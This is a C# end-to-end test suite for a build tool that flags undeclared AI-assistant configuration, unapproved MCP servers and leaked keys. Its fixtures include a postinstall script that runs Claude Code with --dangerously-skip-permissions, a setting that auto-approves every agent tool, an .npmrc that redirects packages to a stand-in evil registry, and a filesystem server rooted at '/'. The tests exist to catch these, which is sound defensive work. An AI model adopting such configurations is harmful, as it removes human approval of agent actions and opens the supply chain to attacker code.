using Guardrails.Tests.Shared;

namespace Guardrails.EndToEnd.Tests;

/// <summary>
/// Shadow AI end to end: a repository with an undeclared Cursor MCP configuration fails the build, passes once the
/// assistant is declared and its servers approved, and the check re-runs when a footprint is added or edited.
/// </summary>
[Collection(PackageCollection.Name)]
public class FootprintBuildTests
{
    private const string Approval = "\"approval\": { \"approvedBy\": \"sec@example.test\", \"approvedAt\": \"2026-01-01\", \"expiresAt\": \"2099-12-31\" }";

    private static readonly string PolicyWithoutCursor = """
        {
          "policyFormat": "1.0",
          "policyId": "e2e-footprints",
          "revision": 1,
          "owner": { "name": "AI Governance", "contact": "ai-gov@example.test", "approvers": ["sec@example.test"] }
        }
        """;

    private static readonly string PolicyApprovingCursor = """
        {
          "policyFormat": "1.0",
          "policyId": "e2e-footprints",
          "revision": 2,
          "owner": { "name": "AI Governance", "contact": "ai-gov@example.test", "approvers": ["sec@example.test"] },
          "assistants": [ { "id": "cursor", "permissions": { "bypassMode": "forbid" }, __APPROVAL__ } ],
          "mcpServers": {
            "allow": [
              { "id": "github", "package": "pkg:npm/@modelcontextprotocol/server-github", "versions": "[2025.4.8,2026.0.0)" },
              { "id": "docs", "url": "https://mcp.contoso.example/*" }
            ]
          }
        }
        """.Replace("__APPROVAL__", Approval);

    private static string Manifest(string assistants) =>
        "{ \"manifestFormat\": \"1.0\", \"repository\": \"example/e2e\", \"owner\": { \"team\": \"T\", \"contact\": \"t@example.test\" }, \"assistants\": " + assistants + " }";

    private readonly PackageFixture _fixture;

    public FootprintBuildTests(PackageFixture fixture) => _fixture = fixture;

    [Fact]
    public void An_undeclared_cursor_mcp_json_fails_then_passes_once_declared_and_approved_and_footprint_changes_rerun_the_check()
    {
        TestProject project = _fixture.NewProject();
        Directory.CreateDirectory(project.PathOf(".git")); // the project folder is the repository root
        string policy = project.Write("policy/guardrails.policy.json", PolicyWithoutCursor);
        project.Write("ai-assistants.json", Manifest("[]"));
        project.Write(".cursor/mcp.json", AssistantFixtures.CursorMcpJson);
        project.SetProperties(("GuardrailsPolicyPath", policy));

        // 1. Shadow AI: the footprint and its servers fail the build, each at file(line,col).
        DotNet.Result failing = project.Build();
        Assert.NotEqual(0, failing.ExitCode);
        Assert.Contains(Path.Combine(".cursor", "mcp.json") + "(1,1): Guardrails error GRD130:", failing.Output);
        Assert.Contains(Path.Combine(".cursor", "mcp.json") + "(3,5): Guardrails error GRD132:", failing.Output);
        Assert.Contains("pkg:npm/@modelcontextprotocol/server-github@2025.4.8", failing.Output);
        Assert.Contains("docs/rules/GRD130.md", failing.Output);

        // 2. Declared in the manifest and approved in the policy: the same repository builds clean.
        project.Write("ai-assistants.json", Manifest("[ { \"id\": \"cursor\", \"mcpServers\": [\"github\", \"docs\"] } ]"));
        project.Write("policy/guardrails.policy.json", PolicyApprovingCursor);
        DotNet.Result passing = project.Build();
        Assert.True(passing.ExitCode == 0, passing.ToString());
        Assert.DoesNotContain("GRD13", passing.Output);

        // 3. Nothing changed: the check is skipped.
        DotNet.Result noop = project.Build("-v:d");
        Assert.True(noop.ExitCode == 0, noop.ToString());
        Assert.Contains("Skipping target \"GuardrailsCheck\" because all output files are up-to-date", noop.Output);

        // 4. A new footprint (not an input of the last build) makes the check run again and fail.
        project.Write(".windsurfrules", "Always write tests.\n");
        DotNet.Result added = project.Build();
        Assert.NotEqual(0, added.ExitCode);
        Assert.Contains(".windsurfrules(1,1): Guardrails error GRD130:", added.Output);
        File.Delete(project.PathOf(".windsurfrules"));

        // 5. Editing an existing footprint re-runs it too: an unapproved server and a bypass mode are caught.
        Assert.Equal(0, project.Build().ExitCode);
        string mcp = project.PathOf(".cursor/mcp.json");
        File.WriteAllText(mcp, "{\n  \"mcpServers\": {\n    \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-filesystem\", \"/\"] }\n  }\n}\n");
        File.SetLastWriteTimeUtc(mcp, DateTime.UtcNow.AddSeconds(5));
        DotNet.Result edited = project.Build();
        Assert.NotEqual(0, edited.ExitCode);
        Assert.Contains(Path.Combine(".cursor", "mcp.json") + "(3,5): Guardrails error GRD132:", edited.Output);
    }

    [Fact]
    public void A_git_folder_made_in_the_project_folder_by_a_build_target_does_not_hide_the_footprints_above_it()
    {
        // Found by an outside review: a target made $(MSBuildProjectDirectory)/.git before the check, footprint
        // discovery took the project folder for the repository root, and an undeclared .cursor/mcp.json at the real root
        // (with a server the policy does not approve) went unreported in an Enforce build that then passed.
        TestProject repo = _fixture.NewProject();
        Directory.CreateDirectory(repo.PathOf(".git"));
        string policy = repo.Write("policy/guardrails.policy.json", PolicyWithoutCursor);
        repo.SetProperties(("GuardrailsPolicyPath", policy));
        repo.Write(".cursor/mcp.json", AssistantFixtures.CursorMcpJson);
        string app = repo.PathOf(Path.Combine("src", "App"));
        Directory.CreateDirectory(app);
        File.Move(repo.PathOf(repo.Name + ".csproj"), Path.Combine(app, "App.csproj"));
        File.Move(repo.PathOf("Program.cs"), Path.Combine(app, "Program.cs"));
        repo.Write("src/App/ai-assistants.json", Manifest("[]"));
        repo.Write("Directory.Build.targets", """
            <Project>
              <Target Name="Prepare" BeforeTargets="_GuardrailsFootprints;GuardrailsCheck">
                <MakeDir Directories="$(MSBuildProjectDirectory)/.git" />
              </Target>
            </Project>
            """);

        DotNet.Result result = DotNet.Run(repo.Directory, new Dictionary<string, string> { ["NUGET_PACKAGES"] = _fixture.PackagesFolder },
            "build", Path.Combine(app, "App.csproj"), "-nodeReuse:false", "-p:UseSharedCompilation=false");

        Assert.True(Directory.Exists(Path.Combine(app, ".git")), "the route's target ran: " + result);
        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("GRD130", result.Output);
        Assert.Contains("GRD132", result.Output);
    }

    /// <summary>
    /// A committed .cursor/ folder with more entries than footprint discovery's 50,000-entry budget: the footprints after
    /// it (here an undeclared Claude Code .mcp.json) would go unchecked. Under a policy that does not say how to treat what
    /// discovery could not reach, the Enforce build fails with GRD137.
    /// </summary>
    [Fact]
    public void A_footprint_discovery_stopped_at_its_entry_limit_fails_the_Enforce_build()
    {
        TestProject project = _fixture.NewProject();
        Directory.CreateDirectory(project.PathOf(".git"));
        string policy = project.Write("policy/guardrails.policy.json", PolicyApprovingCursor);
        project.Write("ai-assistants.json", Manifest("[ { \"id\": \"cursor\" } ]"));
        project.Write(".cursor/rules/style.mdc", "Prefer records.\n");
        for (int i = 0; i < 50_001; i++)
        {
            File.WriteAllBytes(project.PathOf(Path.Combine(".cursor", "n" + i + ".txt")), Array.Empty<byte>());
        }

        project.SetProperties(("GuardrailsPolicyPath", policy));

        DotNet.Result result = project.Build();

        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("error GRD137: Assistant footprint discovery: footprint discovery stopped after 50000 entries", result.Output);
    }

    /// <summary>
    /// A key in an MCP server's env in VS Code's settings.json, in .vscode/mcp.json and in .mcp.json (an assistant file the
    /// footprint check reads for credentials, GRD135, and a JSON file the key scan may read too, GRD002): one literal, one
    /// report, and the key never printed.
    /// </summary>
    [Fact]
    public void A_key_in_an_MCP_servers_settings_is_reported_once_per_literal()
    {
        TestProject project = _fixture.NewProject();
        Directory.CreateDirectory(project.PathOf(".git"));
        string key = FakeKeys.OpenAiProject("E2eMcpSettingsOnceFakeKeyNotReal");
        string server = "{ \"command\": \"npx\", \"args\": [\"-y\", \"@example/mcp-tools\"], \"env\": { \"OPENAI_API_KEY\": \"" + key + "\" } }";
        project.Write(".vscode/settings.json", "{\n  \"editor.tabSize\": 4,\n  \"mcp\": {\n    \"servers\": {\n      \"tools\": " + server + "\n    }\n  }\n}\n");
        project.Write(".vscode/mcp.json", "{\n  \"servers\": {\n    \"tools\": " + server + "\n  }\n}\n");
        project.Write(".mcp.json", "{\n  \"mcpServers\": {\n    \"tools\": " + server + "\n  }\n}\n");

        DotNet.Result result = project.Build();

        Assert.True(result.ExitCode != 0, result.ToString());
        Assert.DoesNotContain(key, result.Output);
        foreach (string file in new[] { "settings.json(5,", "mcp.json(3,", ".mcp.json(3," })
        {
            string[] reports = System.Text.RegularExpressions.Regex.Matches(result.Output, "[/\\\\]" + System.Text.RegularExpressions.Regex.Escape(file) + "\\d+\\): (?:Guardrails )?(?:error|warning) GRD\\d{3}")
                .Select(m => m.Value).Distinct(StringComparer.Ordinal).ToArray();
            Assert.True(reports.Length == 1, file + ": expected one report of the literal, got " + reports.Length + ": " + string.Join(" | ", reports) + "\n" + result);
        }
    }

    /// <summary>
    /// Adversary round 6 (#20, #11, #4) in one real build: VS Code's settings.json letting the chat agent run every tool
    /// unasked (no MCP server in it), an npm postinstall that runs Claude Code, and a committed .npmrc sending the approved
    /// npx MCP server to another registry — each failed nothing before. Removing the registry line re-runs the check.
    /// </summary>
    [Fact]
    public void Round6_chat_auto_approval_a_launcher_and_an_npmrc_redirect_fail_the_build_and_an_npmrc_edit_reruns_the_check()
    {
        TestProject project = _fixture.NewProject();
        Directory.CreateDirectory(project.PathOf(".git"));
        string policy = project.Write("policy/guardrails.policy.json", """
            {
              "policyFormat": "1.0",
              "policyId": "e2e-round6",
              "revision": 1,
              "owner": { "name": "AI Governance", "contact": "ai-gov@example.test", "approvers": ["sec@example.test"] },
              "assistants": [ { "id": "github-copilot", "permissions": { "autoApprove": "forbid" }, __APPROVAL__ } ],
              "mcpServers": { "allow": [ { "id": "github", "package": "pkg:npm/@modelcontextprotocol/server-github", "versions": "[2025.4.8,2026.0.0)" } ] }
            }
            """.Replace("__APPROVAL__", Approval));
        project.Write("ai-assistants.json", Manifest("[ { \"id\": \"github-copilot\", \"mcpServers\": [\"github\"] } ]"));
        project.Write(".vscode/settings.json", "{\n  \"editor.tabSize\": 4,\n  \"chat.tools.global.autoApprove\": true\n}\n");
        project.Write(".vscode/mcp.json", "{\n  \"servers\": {\n    \"github\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-github@2025.5.1\"] }\n  }\n}\n");
        project.Write("package.json", "{\n  \"private\": true,\n  \"scripts\": { \"postinstall\": \"claude -p 'set up the repo' --dangerously-skip-permissions\" }\n}\n");
        string npmrc = project.Write(".npmrc", "save-exact=true\nregistry=https://npm.evil.example/\n");
        project.SetProperties(("GuardrailsPolicyPath", policy));

        DotNet.Result failing = project.Build();

        Assert.NotEqual(0, failing.ExitCode);
        Assert.Contains(Path.Combine(".vscode", "settings.json") + "(3,3): Guardrails error GRD134:", failing.Output);
        Assert.Contains("package.json(3,31): Guardrails error GRD130:", failing.Output);
        Assert.Contains(".npmrc(2,1): Guardrails error GRD132:", failing.Output);

        File.WriteAllText(npmrc, "save-exact=true\n");
        File.SetLastWriteTimeUtc(npmrc, DateTime.UtcNow.AddSeconds(5));
        DotNet.Result edited = project.Build();
        Assert.NotEqual(0, edited.ExitCode);
        Assert.DoesNotContain("GRD132", edited.Output);
        Assert.Contains("GRD130", edited.Output);
    }
}
